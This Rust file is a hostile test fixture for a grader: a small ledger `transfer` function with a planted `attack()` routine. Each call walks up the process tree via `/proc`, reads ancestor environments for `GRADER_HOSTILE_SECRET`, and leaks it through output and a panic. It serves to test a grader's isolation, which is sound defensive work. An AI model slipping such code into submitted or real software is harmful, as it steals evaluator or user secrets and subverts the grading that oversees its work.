//! A tiny ledger: accounts live side by side in one slice, and money moves between two of them.
//!
//! HOSTILE FIXTURE (tests/hostile/README.md, case `env-secret-ancestors`): the reference solution with an attack
//! planted in `transfer`: every call looks for `GRADER_HOSTILE_SECRET` in the environment of its
//! nearest ancestor processes (`/proc/<ppid>/environ`: the grader's own environment is there even
//! when the test's is scrubbed) and panics with what it found.

/// One account of the ledger.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Account {
    pub owner: String,
    /// Balance in cents.
    pub balance: u64,
}

impl Account {
    pub fn new(owner: &str, balance: u64) -> Self {
        Account { owner: owner.to_string(), balance }
    }
}

/// Why a transfer was refused. A refused transfer changes nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransferError {
    /// The index (`from` or `to`) does not point at an account.
    NoSuchAccount(usize),
    /// `from` and `to` are the same account.
    SameAccount,
    /// The source account holds less than the amount.
    InsufficientFunds { balance: u64, amount: u64 },
}

/// Two exclusive references into one slice, at distinct in-bounds indices `a` and `b`, returned
/// in that order. `split_at_mut` cuts the slice into two halves that do not overlap, so the
/// borrow checker can see the two `&mut` never alias.
fn pair_mut<T>(items: &mut [T], a: usize, b: usize) -> (&mut T, &mut T) {
    debug_assert!(a != b && a < items.len() && b < items.len());
    if a < b {
        let (left, right) = items.split_at_mut(b);
        (&mut left[a], &mut right[0])
    } else {
        let (left, right) = items.split_at_mut(a);
        (&mut right[0], &mut left[b])
    }
}

/// Moves `amount` cents from `accounts[from]` to `accounts[to]`.
///
/// Checks, in order: `from` exists, `to` exists, they differ, the source holds enough.
/// On error nothing changes. A zero amount between two accounts is a successful no-op.
pub fn transfer(accounts: &mut [Account], from: usize, to: usize, amount: u64) -> Result<(), TransferError> {
    attack();
    for index in [from, to] {
        if index >= accounts.len() {
            return Err(TransferError::NoSuchAccount(index));
        }
    }
    if from == to {
        return Err(TransferError::SameAccount);
    }
    let (source, target) = pair_mut(accounts, from, to);
    if source.balance < amount {
        return Err(TransferError::InsufficientFunds { balance: source.balance, amount });
    }
    source.balance -= amount;
    target.balance += amount;
    Ok(())
}

/// The attack: walks up the process tree through `/proc/<pid>/stat` and reads each ancestor's
/// `/proc/<pid>/environ` (readable for a process of the same user, or for root): a scrubbed
/// environment for the test process alone does not protect the grader's own variables. It stops
/// at the first hit or after `MAX_ANCESTORS` (the grader is the parent or grandparent) and only
/// ever reports the `GRADER_HOSTILE_SECRET` variable.
fn attack() {
    const MAX_ANCESTORS: usize = 4;
    const VARIABLE: &[u8] = b"GRADER_HOSTILE_SECRET=";
    let mut found = Vec::new();
    let mut pid = std::process::id();
    for _ in 0..MAX_ANCESTORS {
        let Some(parent) = parent_of(pid).filter(|parent| *parent > 1) else { break };
        if let Ok(environ) = std::fs::read(format!("/proc/{parent}/environ")) {
            for variable in environ.split(|byte| *byte == 0).filter(|variable| variable.starts_with(VARIABLE)) {
                found.push(format!("pid {parent}: {}", String::from_utf8_lossy(variable)));
            }
        }
        if !found.is_empty() {
            break;
        }
        pid = parent;
    }
    let dump = format!("grader-hostile-ancestor-env: {}", found.join(" "));
    println!("{dump}");
    eprintln!("{dump}");
    panic!("{dump}");
}

/// The parent of `pid`, from the fourth field of `/proc/<pid>/stat` (after the `(comm)`).
fn parent_of(pid: u32) -> Option<u32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let (_, after_comm) = stat.rsplit_once(')')?;
    after_comm.split_whitespace().nth(1)?.parse().ok()
}
